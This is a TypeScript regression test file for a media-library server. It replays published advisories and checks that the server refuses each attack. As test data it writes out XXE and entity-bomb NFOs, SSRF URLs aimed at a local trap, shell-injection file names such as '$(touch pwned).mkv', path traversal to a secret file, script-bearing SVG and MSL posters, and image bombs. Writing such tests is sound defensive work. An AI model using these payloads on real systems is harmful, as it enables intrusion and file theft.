// Advisories of peers about what files say and what they are called, replayed against the whole server: each test names those
// that it replays. See `library-advisories.test.ts`.
import assert from 'node:assert/strict'
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import sharp from 'sharp'
import { findProgram } from '../../src/kernel/find-program.ts'
import type { ArtworkView, CacheView } from '../../src/library/assets/contract.ts'
import { grabFrame } from '../../src/media/film-frame.ts'
import {
  askPlainly,
  heardBy,
  namesBelow,
  namesOf,
  openTrap,
  putOutside,
  SECRET,
  titleOf,
  titleViews,
} from '../advisory-world.ts'
import { drawPicture } from '../artwork-world.ts'
import { makeClips } from '../../demo/library/clips.ts'
import { addRadarr, download, fileOf, movieOf } from '../radarr-world.ts'
import { type LibraryWorld, startLibrary } from '../scan-world.ts'
import { startTitles } from '../titles-world.ts'

const CACHING = { artwork: true, cache: true }

const idOf = async (world: LibraryWorld): Promise<number> => (await titleViews(world))[0]?.titleId ?? 0

const artOf = async (world: LibraryWorld) =>
  (await world.app.get<ArtworkView>(`api/v1/library/titles/${await idOf(world)}/artwork`)).kinds.flatMap(
    ({ candidates }) => candidates,
  )

const kept = async ({ app }: LibraryWorld): Promise<number> =>
  (await app.get<CacheView>('api/v1/library/artwork/cache')).pictures

describe('an NFO', () => {
  it('names no file and no address that is opened (CVE-2018-13415, GHSA-q89f-h332-8q2h, CVE-2026-35032)', async () => {
    await using world = await startLibrary()
    await using trap = await openTrap()
    const outside = putOutside(world)
    const file = `file://${outside}/secret.txt`
    const nfos: Record<string, string> = {
      Entity: `<!DOCTYPE movie [<!ENTITY x SYSTEM "${file}">]><movie><title>&x;</title><plot>&x;</plot></movie>`,
      Remote: `<!DOCTYPE movie SYSTEM "${trap.url}/a.dtd"><movie><title>&x;</title></movie>`,
      Parameter: `<!DOCTYPE m [<!ENTITY % p SYSTEM "${trap.url}/p.dtd">%p;]><movie><title>Out of it</title></movie>`,
      Public: `<!DOCTYPE m PUBLIC "-//x//y" "${trap.url}/q.dtd"><movie><title>Out of it</title></movie>`,
      Bomb: `<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa">${bombOf(9)}]><movie><title>&a9;</title></movie>`,
      Include: `<movie xmlns:xi="http://www.w3.org/2001/XInclude"><title>Include</title><plot><xi:include href="${file}" parse="text"/></plot></movie>`,
      Sheet: `<?xml-stylesheet type="text/xsl" href="${trap.url}/s.xsl"?><movie xsi:schemaLocation="x ${trap.url}/s.xsd"><title>Sheet</title></movie>`,
    }
    for (const [name, nfo] of Object.entries(nfos)) {
      world.put(`${name} (2001)/film.mkv`)
      world.put(`${name} (2001)/film.nfo`, nfo)
    }
    const { scanId, outcome } = await world.scan({ steps: CACHING })
    assert.equal(outcome, 'done')
    assert.deepEqual(await namesOf(world), Object.keys(nfos).toSorted())
    const refused = (await world.notes(scanId)).filter(({ says }) => says.params['problem'] === 'nfo/doctype')
    assert.equal(refused.length, 5)
    for (const { titleId } of await titleViews(world))
      assert.ok(!JSON.stringify(await titleOf(world, titleId)).includes(SECRET))
    assert.deepEqual(await heardBy(trap), [])
  })

  it('fetches no picture, trailer or link, whether it is cached or published (CVE-2021-29490, CVE-2026-27567)', async () => {
    await using world = await startLibrary()
    await using trap = await openTrap()
    const outside = putOutside(world)
    const refs = [
      `${trap.url}/a.jpg`,
      `file://${outside}/secret.txt`,
      '../../../../outside/secret.txt',
      `smb://127.0.0.1/a`,
    ]
    world.put('Film (2001)/film.mkv')
    world.put(
      'Film (2001)/film.nfo',
      `<movie><title>Film</title><trailer>${trap.url}/t.mp4</trailer>
        ${refs.map((ref) => `<thumb aspect="poster" preview="${ref}">${ref}</thumb>`).join('')}
        <fanart url="${trap.url}/"><thumb>b.jpg</thumb></fanart>
        <art>${refs.map((ref) => `<poster>${ref}</poster>`).join('')}</art>
        <actor><name>Ann</name><thumb>${trap.url}/ann.jpg</thumb><profile>${trap.url}/ann</profile></actor>
        <fileinfo><streamdetails/></fileinfo></movie>\n${trap.url}/title/tt0000001`,
    )
    await world.scan({ steps: CACHING })
    assert.deepEqual(await artOf(world), [])
    assert.equal(
      (await world.app.cli('POST', `api/v1/library/titles/${await idOf(world)}/publication`, {})).status,
      202,
    )
    await world.app.settled()
    assert.equal(await kept(world), 0)
    assert.deepEqual(await heardBy(trap), [])
  })
})

const bombOf = (levels: number): string =>
  Array.from({ length: levels }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at === 0 ? '' : at};`.repeat(10)}">`).join('')

it('no address in a webhook is asked (CVE-2026-34746, CVE-2026-42606)', async () => {
  await using world = await startLibrary()
  await using trap = await openTrap()
  const radarr = await addRadarr(world)
  world.put('Film (2001)/film.mkv')
  const { url } = trap
  const images = ['poster', 'fanart', 'banner'].map((coverType) => ({
    coverType,
    url: `${url}/u`,
    remoteUrl: `${url}/r`,
  }))
  const authorization = `Basic ${Buffer.from(`radarr:${radarr.source.secret}`).toString('base64')}`
  const members = {
    ...download('Film (2001)'),
    movie: { ...movieOf('Film (2001)'), images, trailer: url, website: url },
  }
  for (const eventType of ['Download', 'Rename', 'Health', 'ManualInteractionRequired', 'Grab']) {
    const body = {
      ...members,
      eventType,
      applicationUrl: url,
      instanceName: url,
      wikiUrl: url,
      message: url,
      level: 'error',
    }
    const headers = { authorization, host: new URL(world.app.address).host, 'x-forwarded-host': new URL(url).host }
    assert.equal((await world.app.call('POST', 'webhooks/radarr', { body, headers })).status, 200, eventType)
  }
  await world.app.settled()
  assert.deepEqual(await namesOf(world), ['Film'])
  assert.deepEqual(await heardBy(trap), [])
})

it('what a provider calls a picture is a name of its own server (CVE-2023-27161, CVE-2026-34746)', async () => {
  await using world = await startTitles()
  await using trap = await openTrap()
  const { host } = new URL(trap.url)
  const paths = [
    `//${host}/a.jpg`,
    `${trap.url}/a.jpg`,
    `@${host}/a.jpg`,
    '/../../3/configuration',
    '/a.jpg?x=/../',
    '\\\\x\\a.jpg',
  ]
  const posters = ['/good.png', ...paths].map((path) => ({ path, width: 1000, height: 1500, language: 'en', votes: 9 }))
  world.fake.world.images.set('/good.png', await drawPicture(1, { type: 'png', width: 200, height: 300 }))
  world.fake.addMovie({ id: 603, title: 'Film', releaseDate: '2001-01-01', posters, backdrops: posters })
  await world.put('Film (2001) {tmdb-603}/film.mkv')
  await world.scan()
  const { titleId } = await world.find('Film')
  const { kinds } = await world.app.get<ArtworkView>(`api/v1/library/titles/${titleId}/artwork`)
  const refs = kinds.flatMap(({ candidates }) => candidates.map(({ ref }) => ref))
  assert.deepEqual([...new Set(refs)], ['/good.png'])
  assert.deepEqual(await heardBy(trap), [])
})

describe('names of files', () => {
  const skip = findProgram('ffmpeg') === undefined ? 'needs ffmpeg' : false
  const names = [
    '-i.mkv',
    '-y -f null.mkv',
    'a" -i "x.mkv',
    "b'; touch pwned; '.mkv",
    '$(touch pwned).mkv',
    '`touch pwned`.mkv',
    'c; touch pwned #.mkv',
    'd\n-i x\ntouch pwned.mkv',
    'concat:e|f.mkv',
    '%d %s {0} *.mkv',
    '| touch pwned.mkv',
  ]

  it('are never arguments (CVE-2023-49096, CVE-2025-31499, CVE-2026-35033, CVE-2026-48793)', { skip }, async (test) => {
    await using world = await startLibrary()
    const clips = mkdtempSync(join(tmpdir(), 'patchbay-advisories-'))
    test.after(() => rmSync(clips, { recursive: true, force: true }))
    const { mkv } = await makeClips(clips)
    for (const [at, name] of names.entries()) {
      world.put(`Film ${at} (2001)/${name}`)
      copyFileSync(mkv, join(world.folder, `Film ${at} (2001)/${name}`))
    }
    const before = namesBelow(world.folder)
    await world.scan({ steps: { probe: true } })
    const titles = await titleViews(world)
    assert.equal(titles.length, names.length)
    for (const { titleId } of titles) {
      const [file] = (await titleOf(world, titleId)).files
      assert.ok(names.includes(file?.path.replace(/^[^/]*\//, '') ?? ''))
      assert.ok(file?.streams != null && file.problem === null, file?.path)
      assert.equal((await world.app.cli('POST', `api/v1/library/titles/${titleId}/publication`, {})).status, 202)
    }
    await world.app.settled()
    const written = namesBelow(world.folder).filter((name) => !before.includes(name))
    const wanted = names.map((name, at) => `Film ${at} (2001)/${name.replace(/\.mkv$/, '.nfo')}`)
    assert.deepEqual(
      written.filter((name) => !name.startsWith('.patchbay')),
      wanted.toSorted(),
    )
    assert.ok(!existsSync('pwned'))
  })

  it(
    'are one argument where ffmpeg reads a film (CVE-2023-49096, CVE-2025-31499, CVE-2026-48793)',
    { skip },
    async (test) => {
      const folder = mkdtempSync(join(tmpdir(), 'patchbay-advisories-'))
      test.after(() => rmSync(folder, { recursive: true, force: true }))
      const { mkv } = await makeClips(join(folder, 'clips'))
      const ffmpegPath = findProgram('ffmpeg') ?? ''
      for (const name of names) {
        const path = join(folder, name)
        copyFileSync(mkv, path)
        const frame = await grabFrame({ ffmpegPath, path, type: 'matroska', longestSide: 64, signal: undefined })
        assert.equal((await sharp(frame).metadata()).format, 'png', name)
      }
      assert.deepEqual(
        namesBelow(folder).filter((name) => !name.startsWith('clips')),
        names.toSorted(),
      )
    },
  )

  it('are not made from a title (CVE-2026-40096, GHSA-93fx-5qgc-wr38, CVE-2026-42605)', async () => {
    await using world = await startLibrary()
    const outside = putOutside(world)
    world.put('Film (2001)/film.mkv')
    await world.scan()
    const titleId = await idOf(world)
    const at = `api/v1/library/titles/${titleId}`
    const before = [...namesBelow(outside), ...namesBelow(world.folder)]
    const secret = readFileSync(join(outside, 'secret.txt'), 'utf8')
    for (const title of ['../../../../outside/secret', '/etc/evil', 'C:\\evil', '#{system("id")}']) {
      const headers = {
        authorization: await world.app.bearer(),
        'if-match': `"${(await titleOf(world, titleId)).etag}"`,
      }
      const edit = await world.app.call('PATCH', at, {
        headers,
        body: { facts: { title, sortTitle: title, set: { name: title } } },
      })
      assert.equal(edit.status, 200, edit.text)
      const takeOver = [
        '../../../../outside/secret.txt',
        `${outside}/secret.txt`,
        'Film (2001)/../../../../outside/secret.txt',
      ]
      assert.equal((await world.app.cli('POST', `${at}/publication`, { takeOver })).status, 202)
      await world.app.settled()
    }
    assert.equal(readFileSync(join(outside, 'secret.txt'), 'utf8'), secret)
    const now = [...namesBelow(outside), ...namesBelow(world.folder)].filter((name) => !before.includes(name))
    assert.deepEqual(
      now.filter((name) => !name.startsWith('.patchbay')),
      ['Film (2001)/film.nfo'],
    )
    assert.match(
      readFileSync(join(world.folder, 'Film (2001)/film.nfo'), 'utf8'),
      /<title>#\{system\("id"\)\}<\/title>/,
    )
  })
})

describe('a poster', () => {
  const svg = (url: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="500" height="750">
      <image x:href="${url}/i.png" width="9" height="9"/><script>fetch("${url}/s")</script></svg>`
  const disguises = (url: string): Record<string, string> => ({
    svg: svg(url),
    declared: `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "${url}/d.dtd">${svg(url)}`,
    html: `<!doctype html><script src="${url}/h.js"></script>`,
    msl: `<?xml version="1.0"?><image><read filename="${url}/m.png"/><write filename="/tmp/patchbay-pwned.php"/></image>`,
    mvg: `push graphic-context\nimage over 0,0 9,9 'url(${url}/v.png)'`,
    list: `#EXTM3U\n#EXTINF:1,\n${url}/l.ts`,
  })

  it('that is a program is refused from the disk and from a person (CVE-2024-43801, GHSA-9x85-gx46-6522, CVE-2022-27952)', async () => {
    await using world = await startLibrary()
    await using trap = await openTrap()
    world.put('Film (2001)/film.mkv')
    const kinds = ['poster', 'fanart', 'banner', 'clearlogo', 'landscape', 'discart']
    const contents = Object.values(disguises(trap.url))
    for (const [at, content] of contents.entries())
      world.put(`Film (2001)/${kinds[at]}.${at % 2 === 0 ? 'jpg' : 'png'}`, content)
    world.put('Film (2001)/keyart.svg', svg(trap.url))
    await world.scan({ steps: CACHING })
    assert.equal(await kept(world), 0)
    const path = `/api/v1/library/titles/${await idOf(world)}/artwork/poster`
    for (const content of contents) {
      const headers = { 'content-type': 'image/jpeg' }
      const { status, body } = await askPlainly(world.app, path, {
        method: 'POST',
        headers,
        body: Buffer.from(content),
      })
      assert.deepEqual([status, (JSON.parse(body) as { code: string }).code], [400, 'picture/not-a-picture'], content)
    }
    assert.equal(await kept(world), 0)
    assert.ok(!existsSync('/tmp/patchbay-pwned.php'))
    assert.deepEqual(await heardBy(trap), [])
  })

  it('with a page behind its pixels is served as the picture that it is (GHSA-9qpg-3cf8-w33x, CVE-2026-34748)', async () => {
    await using world = await startLibrary()
    world.put('Film (2001)/film.mkv')
    const picture = await drawPicture(1, { width: 200, height: 300 })
    world.put('Film (2001)/poster.jpg', Buffer.concat([picture, Buffer.from('<html><script>alert(1)</script></html>')]))
    await world.scan({ steps: CACHING })
    const sha256 = (await titleViews(world))[0]?.posterSha256 ?? ''
    for (const [query, type] of [
      ['', 'image/jpeg'],
      ['?width=185', 'image/webp'],
    ] as const) {
      const served = await askPlainly(world.app, `/api/v1/library/pictures/${sha256}${query}`, {
        headers: { accept: 'text/html' },
      })
      const heads = ['content-type', 'x-content-type-options'].map((name) => served.head(name))
      assert.deepEqual([served.status, ...heads], [200, type, 'nosniff'])
    }
  })

  it('that would fill the memory is refused by its head (CVE-2026-8461, Payload and ImageMagick bombs)', async () => {
    await using world = await startLibrary()
    const bomb = await sharp({ create: { width: 16_000, height: 16_000, channels: 3, background: '#000' } })
      .png({ compressionLevel: 9 })
      .toBuffer()
    const [claims, cut] = [Buffer.from(await drawPicture(1, { type: 'png' })), bomb.subarray(0, 64)]
    // Of its width it says 2^31 - 1.
    claims.writeUInt32BE(0x7fffffff, 16)
    world.put('Film (2001)/film.mkv')
    for (const [name, content] of Object.entries({ poster: bomb, fanart: claims, banner: cut }))
      world.put(`Film (2001)/${name}.png`, content)
    const { outcome } = await world.scan({ steps: CACHING })
    assert.equal(outcome, 'done')
    assert.equal(await kept(world), 0)
    const reasons = (await artOf(world)).map(({ kind, reason }) => [kind, reason?.code])
    assert.deepEqual(
      reasons.find(([kind]) => kind === 'poster'),
      ['poster', 'picture/too-many-pixels'],
    )
    const path = `/api/v1/library/titles/${await idOf(world)}/artwork/poster`
    for (const body of [bomb, claims]) {
      const answer = await askPlainly(world.app, path, {
        method: 'POST',
        headers: { 'content-type': 'image/png' },
        body,
      })
      assert.deepEqual(
        [answer.status, (JSON.parse(answer.body) as { code: string }).code],
        [400, 'picture/too-many-pixels'],
      )
    }
    assert.equal(await kept(world), 0)
  })
})

it('a sender’s file names lead to no file but that of its folder (CVE-2026-34750, CVE-2017-8314)', async () => {
  await using world = await startLibrary()
  const radarr = await addRadarr(world)
  const outside = putOutside(world)
  world.put('Film (2001)/film.mkv')
  const path = `${outside}/Leaked (1999)/film.mkv`
  const renamed = { ...fileOf('Film (2001)', 1), path, previousPath: `/movies/../../../outside/secret.txt` }
  assert.equal(await radarr.say('Download', { movie: movieOf('Film (2001)'), movieFile: { id: 1, path } }), 200)
  assert.equal(await radarr.say('Rename', { movie: movieOf('Film (2001)'), renamedMovieFiles: [renamed] }), 200)
  assert.equal(await radarr.say('MovieFileDelete', { movie: movieOf('Film (2001)'), movieFile: { id: 1, path } }), 200)
  await world.app.settled()
  assert.deepEqual(await namesOf(world), ['Film'])
  assert.deepEqual(namesBelow(outside), ['Leaked (1999)', 'Leaked (1999)/film.mkv', 'secret.txt'])
})
